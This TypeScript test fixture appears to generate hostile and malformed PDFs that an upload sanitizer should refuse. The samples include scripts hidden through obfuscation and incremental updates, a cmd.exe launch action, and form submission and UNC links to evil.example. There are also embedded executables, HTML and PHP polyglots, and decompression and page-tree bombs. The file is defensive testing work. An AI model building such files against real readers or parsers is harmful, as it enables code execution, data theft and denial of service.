/** PDFs that do more than show pages, or only pretend to be PDFs. */
import { PDFDocument } from '@cantoo/pdf-lib';
import type { ErrorCode } from '#lib/platform/problem.ts';
import type { Hostile } from './files.ts';
import { zip } from './make-binary.ts';
import { flate, objectStream, rawPdf, stream, writeObject, writePdf, type Parts } from './make-pdf.ts';

const refused = (refusal: ErrorCode, list: readonly (readonly [what: string, make: Hostile['make'] | Parts])[]): Hostile[] =>
  list.map(([what, make]) => ({ what, name: 'don.pdf', make: typeof make === 'function' ? make : () => rawPdf(make), refusal }));

const JS = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const annotation = (entries: string): Parts => ({ page: `/Annots [<< /Type /Annot /Rect [0 0 9 9] ${entries} >>]` });
const ATTACHED = stream('MZ', '/Type /EmbeddedFile');

/** A second version of object 5 behind the first, as an incremental update adds it. */
function updated(first: string, second: string, parts: Parts = {}): Buffer {
  const old = rawPdf({ ...parts, more: [first] });
  return Buffer.concat([old, writeObject(5, second), Buffer.from('trailer\n<< /Size 6 /Root 1 0 R >>\nstartxref\n0\n%%EOF\n')]);
}

const SIGNED: Parts = { catalog: '/AcroForm << /SigFlags 3 /Fields [<< /FT /Sig /V << /Type /Sig /ByteRange [0 1 2 3] /Contents <00> >> >>] >>' };

async function manyPages(count: number): Promise<Buffer> {
  const document = await PDFDocument.create();
  for (let page = 0; page < count; page += 1) document.addPage([100, 100]);
  return Buffer.from(await document.save());
}

async function locked(): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.addPage().drawText('secret');
  document.encrypt({ userPassword: 'x', ownerPassword: 'y' });
  return Buffer.from(await document.save());
}

const zeros = (megabytes: number): Buffer => Buffer.alloc(megabytes * 1024 * 1024);

export const DANGEROUS_PDFS: readonly Hostile[] = [
  ...refused('documents.pdf-script', [
    ['a script on opening', { catalog: `/OpenAction ${JS}` }],
    ['a script on opening, elsewhere', { catalog: '/OpenAction 5 0 R', more: [JS] }],
    ['a script in the tree of names', { catalog: '/Names << /JavaScript << /Names [(a) 5 0 R] >> >>', more: [JS] }],
    ['a script spelt with numbers', { catalog: '/OpenAction << /S /J#61v#61Script /#4a#53 (x) >>' }],
    ['a script in an object stream', { catalog: '/OpenAction 9 0 R', more: [objectStream({ 9: JS })] }],
    ['a script in a stream', { catalog: '/OpenAction << /S /JavaScript /JS 5 0 R >>', more: [flate('app.alert(1)')] }],
    ['a script when a page is turned', { page: `/AA << /O ${JS} >>` }],
    ['a script behind a button', annotation(`/Subtype /Widget /A ${JS}`)],
    ['a script as the next action', { catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${JS} >>` }],
    ['a script in the older version of a signed file', () => updated(JS, 'null', { ...SIGNED, catalog: `${SIGNED.catalog} /OpenAction 5 0 R` })],
    ['a script between the objects of a signed file', () => Buffer.concat([rawPdf(SIGNED), Buffer.from(`% 9 0 obj ${JS} endobj\nstartxref\n0\n%%EOF\n`)])],
    ['a script in an unmarked stream of a signed file', { ...SIGNED, more: [flate(`9 0 ${JS}`, '/N 1 /First 4')] }],
  ]),
  ...refused('documents.pdf-action', [
    ['a program that starts on opening', { catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }],
    ['a website that opens by itself', { catalog: '/OpenAction << /S /URI /URI (https://evil.example) >>' }],
    ['a form that sends what it holds', annotation('/Subtype /Widget /A << /S /SubmitForm /F (https://evil.example) >>')],
    ['a link into another file', annotation('/Subtype /Link /A << /S /GoToR /F (\\\\\\\\evil.example\\\\share) >>')],
    ['a link into an attached file', annotation('/Subtype /Link /A << /S /GoToE /T << /R /C /N (a) >> >>')],
    ['data that is fetched', annotation('/Subtype /Widget /A << /S /ImportData /F (x.fdf) >>')],
  ]),
  ...refused('documents.pdf-attachment', [
    ['an attached program', { catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>', more: ['<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>', ATTACHED] }],
    ['a file behind a pin on the page', { ...annotation('/Subtype /FileAttachment /FS 5 0 R'), more: ['<< /Type /Filespec /F (a) >>'] }],
    ['an attached file that nothing mentions', { more: [ATTACHED] }],
  ]),
  ...refused('documents.pdf-form', [['an XFA form', { catalog: '/AcroForm << /Fields [] /XFA 5 0 R >>', more: [flate('<xdp:xdp/>')] }]]),
  ...refused('documents.pdf-media', [
    ['rich media', annotation('/Subtype /RichMedia /RichMediaContent << >>')],
    ['a film', annotation('/Subtype /Movie /Movie << /F (a.avi) >>')],
    ['a 3D model', annotation('/Subtype /3D /3DD 5 0 R')],
    ['a rendition', annotation('/Subtype /Screen /A << /S /Rendition >>')],
  ]),
  ...refused('documents.pdf-encrypted', [
    ['a password', locked],
    ['a locked file, empty password', { trailer: '/Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (x) /P -4 >>' }],
  ]),
  ...refused('documents.pdf-disguised', [
    ['a page before the PDF', { before: '<html><script>alert(1)</script></html>\n' }],
    ['a program before the PDF', { before: 'MZ\u0090\u0000 program\n' }],
    ['white space before the PDF', { before: '\n\n' }],
    ['a page behind the PDF', { after: '<html><script>alert(1)</script></html>' }],
    ['a ZIP behind the PDF', { after: zip({ 'a.txt': 'x' }) }],
    ['a PDF whose first line is another format’s', () => Buffer.from('%PDF-PHP <?php ?>\n%%EOF')],
  ]),
  ...refused('documents.pdf-broken', [
    ['half of a PDF', () => rawPdf().subarray(0, 250)],
    ['nothing but the first line', () => Buffer.from('%PDF-1.7\n')],
    ['nothing but the first and the last line', () => Buffer.from('%PDF-1.7\n%%EOF\n')],
    ['text between the first and the last line', () => Buffer.from(`%PDF-1.7\n${'x '.repeat(2000)}\n%%EOF\n`)],
    ['a PDF without pages', { pages: '<< /Type /Pages /Kids [] /Count 0 >>' }],
    ['a tree of pages in a circle', { pages: '<< /Type /Pages /Kids [2 0 R] /Count 1 >>' }],
    ['few pages that stand for billions', () => writePdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      ...Array.from({ length: 40 }, (_, index) => `<< /Type /Pages /Kids [${index + 3} 0 R ${index + 3} 0 R] /Count 2 >>`),
      '<< /Type /Page >>',
    ])],
    ['arrays in arrays, a million deep', { more: ['['.repeat(1_000_000)] }],
    ['pages that are no objects', { pages: '42' }],
  ]),
  ...refused('documents.too-many-pages', [['101 pages', () => manyPages(101)]]),
  ...refused('documents.pdf-too-complex', [
    ['a page that unpacks to 200 MB', () => rawPdf({ more: [flate(zeros(200))] })],
    ['an object stream that unpacks to 200 MB', () => rawPdf({ more: [flate(zeros(200), '/Type /ObjStm /N 1 /First 4')] })],
    ['400,000 objects', () => writePdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R >>', ...Array.from({ length: 400_000 }, () => '1')])],
  ]),
  ...refused('documents.too-complex', [
    ['an object stream packed twice, 2 GB', () => rawPdf({ more: [flate(Buffer.alloc(30 * 1024 * 1024, Buffer.from([0x81, 0])), '/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /RunLengthDecode]')] })],
  ]),
  { what: 'a script in an older version that no reader should find', name: 'don.pdf', make: () => updated(JS, 'null'), harmless: { gone: ['JavaScript', 'app.alert'] } },
  { what: 'a document that a text processor opens at its first page', name: 'don.pdf', make: () => rawPdf({ catalog: '/OpenAction [3 0 R /Fit]' }), harmless: { gone: [] } },
  { what: 'a document with links to websites', name: 'don.pdf', make: () => rawPdf(annotation('/Subtype /Link /A << /S /URI /URI (https://dichvucong.gov.vn) >>')), harmless: { gone: [] } },
];
